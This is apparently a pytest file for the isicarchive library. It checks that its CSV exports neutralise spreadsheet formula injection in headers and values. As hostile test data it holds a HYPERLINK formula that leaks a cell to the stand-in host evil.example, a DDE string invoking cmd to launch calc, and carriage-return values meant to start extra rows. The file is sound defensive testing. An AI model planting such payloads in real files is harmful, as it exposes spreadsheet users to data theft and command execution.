"""Every CSV this library writes opens safely in a spreadsheet: no cell (header names included) reads as
a formula, and no value starts a row of its own."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hostile import Exchange, serving  # type: ignore[import-not-found]
from reliability_report import record  # type: ignore[import-not-found]

from isicarchive import IsicApi
from isicarchive.testing import LocalArchive

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1)'


def rows_of(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def no_cell_is_a_formula(rows: list[list[str]]) -> None:
    """What a spreadsheet would see: a cell starting = + - @ is a formula; a row's first cell too."""
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@")), (value, row)


def test_the_header_row_of_an_exported_metadata_csv_is_guarded(tmp_path: Path) -> None:
    with LocalArchive(seed=54) as server:
        api = IsicApi(hostname=server.url, api_version=1, progress=False)
        hostile = dict(api.image(server.data.visible_images(None)[0]["name"]).as_json())
        hostile["meta"] = {**hostile["meta"], "clinical": {**hostile["meta"]["clinical"], FORMULA: "x",
                                                           "note": "fine\r=1+1"}}
        api.download_images([hostile], folder=tmp_path / "out")
    rows = rows_of(tmp_path / "out" / "metadata.csv")
    assert len(rows) == 2  # the header and one image: the \r did not start a row
    assert "\t" + FORMULA in rows[0]
    assert rows[1][rows[0].index("note")] == "fine\r=1+1"
    no_cell_is_a_formula(rows)
    record("hostile data", "metadata.csv of a folder download", "a metadata key (header cell) =HYPERLINK(…), "
           "a value with a lone \\r before =", "the header cell starts with a tab; the value is quoted, one row")


def v2_answers(records: list[dict]):  # noqa: ANN201
    def answer(exchange: Exchange) -> None:
        if "/images/search/" in exchange.request.path:
            exchange.send(200, json.dumps({"count": len(records), "next": None, "previous": None,
                                           "results": records}).encode())
        else:
            exchange.send(404, b'{"detail": "Not found."}')
    return answer


def test_metadata_frame_built_from_the_search_is_guarded(tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    records = [{"isic_id": f"ISIC_000000{n}", "public": True, "copyright_license": "CC-0",
                "attribution": f"Clinic {n}\r=cmd|' /C calc'!A0", "metadata": {
                    "acquisition": {"image_type": "dermoscopic"},
                    "clinical": {"age_approx": 30 + n, "sex": "@SUM(1+1)", FORMULA: "y"}}} for n in (1, 2)]
    with serving(v2_answers(records)) as server:
        api = IsicApi(hostname=server.url, api_version=2, progress=False, retries=1, backoff=0.001,
                      timeout=(2.0, 2.0))
        frame = api.metadata_frame("age_approx:[0 TO 99]", path=tmp_path / "metadata.csv")
    rows = rows_of(tmp_path / "metadata.csv")
    assert len(rows) == 3, rows  # the header and two images
    no_cell_is_a_formula(rows)
    assert list(frame["isic_id"]) == ["ISIC_0000001", "ISIC_0000002"]
    record("hostile server", "metadata_frame(path=…) where the zip flow is not offered",
           "values with a lone \\r before a formula, cells and a metadata key starting = and @",
           "every such cell starts with a tab, line breaks quoted: 2 images, 2 rows")


def test_selection_to_csv_is_guarded(tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    from isicarchive.selection import Selection

    records = {f"id{n}": {"_id": f"id{n}", "name": f"ok{n}\r@SUM(1)", "dataset": {"name": "-2+3"}} for n in (1, 2)}
    Selection(records).to_csv(str(tmp_path / "chosen.csv"), fields=["name", "dataset.name"])
    rows = rows_of(tmp_path / "chosen.csv")
    assert len(rows) == 3 and rows[1][1:] == ["ok1\r@SUM(1)", "\t-2+3"]
    no_cell_is_a_formula(rows)
    record("hostile data", "Selection.to_csv", "a name with a lone \\r before @, a dataset name starting -",
           "guarded as metadata.csv is: one row per image, the cell starts with a tab")
